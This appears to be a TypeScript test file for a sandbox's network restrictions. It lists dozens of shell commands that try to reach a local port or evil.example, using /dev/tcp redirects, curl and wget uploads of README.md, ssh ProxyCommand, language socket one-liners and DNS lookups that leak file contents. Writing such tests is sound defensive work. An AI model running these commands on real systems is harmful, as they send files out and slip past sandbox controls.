import { connects, unproven } from '../support/attack';
import { attackSuite } from '../support/attackBench';

attackSuite('network', [
  connects('echo x > /dev/tcp/127.0.0.1/{port}'),
  connects('cat < /dev/tcp/127.0.0.1/{port}'),
  connects('exec 3<>/dev/tcp/127.0.0.1/{port}; echo x >&3'),
  connects('ls >& /dev/tcp/127.0.0.1/{port}'),
  connects('cat README.md 2>/dev/tcp/127.0.0.1/{port}'),
  connects('p={port}; ls > /dev/tcp/127.0.0.1/$p'),
  connects('cat </dev/tcp/localhost/{port}'),
  connects('pwd 5<>"/dev/tcp/127.0.0.1/{port}"'),
  connects('curl -s http://127.0.0.1:{port}/x'),
  connects('curl -s --data @README.md http://127.0.0.1:{port}/x'),
  connects('curl -sT notes.txt http://127.0.0.1:{port}/'),
  connects('curl -K c', { prepare: "echo 'url=http://127.0.0.1:{port}/x' > c" }),
  connects('wget -qO- --tries=1 http://127.0.0.1:{port}/x'),
  connects('wget -q --tries=1 --post-file=README.md http://127.0.0.1:{port}/x'),
  connects("awk 'BEGIN{system(\"echo > /dev/tcp/127.0.0.1/{port}\")}'; bash -c ': > /dev/tcp/127.0.0.1/{port}'"),
  connects('ssh -o BatchMode=yes -o StrictHostKeyChecking=no -p {port} 127.0.0.1 ls'),
  connects('scp -o BatchMode=yes -P {port} README.md 127.0.0.1:x'),
  connects('python3 -c \'import socket;socket.create_connection(("127.0.0.1",{port}))\''),
  connects('perl -MIO::Socket::INET -e \'IO::Socket::INET->new("127.0.0.1:{port}")\''),
  connects('node -e \'require("net").connect({port},"127.0.0.1").on("error",()=>0)\''),
  connects('git ls-remote http://127.0.0.1:{port}/x'),
  connects('openssl s_client -connect 127.0.0.1:{port} < /dev/null'),
  connects('npm view x --registry=http://127.0.0.1:{port}/ --fetch-retries=0'),
  connects('git log --format=%H | curl -s -d @- http://127.0.0.1:{port}/'),
  connects('rg --pre ./c one', { prepare: "printf '#!/bin/bash\\n: > /dev/tcp/127.0.0.1/{port}\\n' > c; chmod +x c" }),
  unproven('needs a name server', 'ping -c1 "$(head -c9 README.md).evil.example"'),
  unproven('needs a name server', 'getent hosts x.evil.example'),
  unproven('needs a name server', 'nslookup x.evil.example'),
  unproven('needs a name server', 'dig x.evil.example'),
  unproven('needs a name server', 'host x.evil.example'),
  unproven('needs a name server', 'cat < /dev/udp/x.evil.example/53'),
  unproven('not installed here', 'nc 127.0.0.1 {port} < README.md'),
  unproven('not installed here', 'socat - TCP:127.0.0.1:{port}'),
  unproven('not installed here', 'telnet 127.0.0.1 {port}'),
  unproven('not installed here', 'rsync README.md 127.0.0.1::x'),
  unproven('prints only what it would do, but reads the configuration of ssh, which executes', 'ssh -G evil.example'),
]);

attackSuite('programs of the network that execute, read or write here', [...execute()]);

function execute() {
  return [
    connects('ssh -o ProxyCommand=\'bash -c ": > /dev/tcp/127.0.0.1/{port}"\' a.example'),
    connects('ssh -oProxyCommand=\'bash -c ": > /dev/tcp/127.0.0.1/{port}"\' a.example'),
    connects('ssh -F c a.example', {
      files: { c: 'ProxyCommand bash -c ": > /dev/tcp/127.0.0.1/$PORT"\n' },
      prepare: 'sed -i "s/.PORT/{port}/" c',
    }),
  ];
}
